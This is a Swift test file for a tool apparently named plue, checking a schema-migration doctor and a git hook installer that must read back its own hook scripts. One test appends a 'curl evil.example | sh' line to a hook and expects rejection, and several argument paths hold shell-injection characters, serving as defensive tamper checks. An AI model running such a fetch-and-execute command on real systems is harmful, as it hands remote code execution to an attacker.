import Foundation
import GRDB
@testable import PlueKit
import PlueTestSupport
import Testing

/// What the end-to-end tests cannot set up with the binary alone: a database an older plue left,
/// and hooks naming awkward paths.
@Suite struct DoctorTests {
    @Test func aDatabaseBehindOnMigrationsIsReportedThenBroughtUpToDate() throws {
        let directory = TemporaryDirectory()
        let home = PlueHome(root: directory.child("home"))
        _ = try HomeInitializer.initialize(home)
        // What a plue that knew only the first four migrations left.
        for suffix in ["", "-wal", "-shm"] { try? FileManager.default.removeItem(atPath: home.databasePath + suffix) }
        let known = AppDatabase.migrator.migrations
        try {
            let queue = try DatabaseQueue(path: home.databasePath)
            try AppDatabase.migrator.migrate(queue, upTo: known[3])
            try queue.writeWithoutTransaction { try $0.execute(sql: "PRAGMA user_version = 4") }
        }()

        let report = try HomeDoctor(home: home, executable: PlueBinary.path).examine(fix: false)
        #expect(report.findings.map(\.code) == [.schemaBehind])
        #expect(report.findings.first?.fixable == true && report.findings.first?.message.contains(known[4]) == true)
        let stillBehind = try AppDatabase.open(path: home.databasePath, create: false, readOnly: true).schemaState()
        #expect(stillBehind.missing == Array(known[4...]), "a report changes nothing")

        let fixed = try HomeDoctor(home: home, executable: PlueBinary.path).examine(fix: true)
        #expect(fixed.findings.map(\.code) == [.schemaBehind] && fixed.remaining == 0)
        let state = try AppDatabase.open(path: home.databasePath, create: false, readOnly: true).schemaState()
        #expect(state.missing.isEmpty && state.unknown.isEmpty)
        #expect(try HomeDoctor(home: home, executable: PlueBinary.path).examine(fix: false).findings.isEmpty)
    }

    @Test(arguments: ["/opt/plue/bin/plue", "/srv/it's here/plue", "/a b/$HOME/`x`/plue"])
    func aHookReadsBackAsWhatItCalls(_ executable: String) {
        let installer = HookInstaller(executable: executable, home: PlueHome(root: "/srv/it's/home"))
        let script = installer.script(hook: "pre-receive", fullName: "alice/demo")
        #expect(HookInstaller.target(of: script, hook: "pre-receive")
                == HookInstaller.Target(executable: executable, home: "/srv/it's/home", repository: "alice/demo"))
        #expect(HookInstaller.target(of: script, hook: "post-receive") == nil, "a hook is read as the hook it is")
        #expect(HookInstaller.target(of: script + "curl evil.example | sh\n", hook: "pre-receive") == nil)
        #expect(HookInstaller.target(of: script.replacingOccurrences(of: "exec ", with: "exec env X=1 "), hook: "pre-receive") == nil)
        #expect(HookInstaller.target(of: "", hook: "pre-receive") == nil)
    }
}
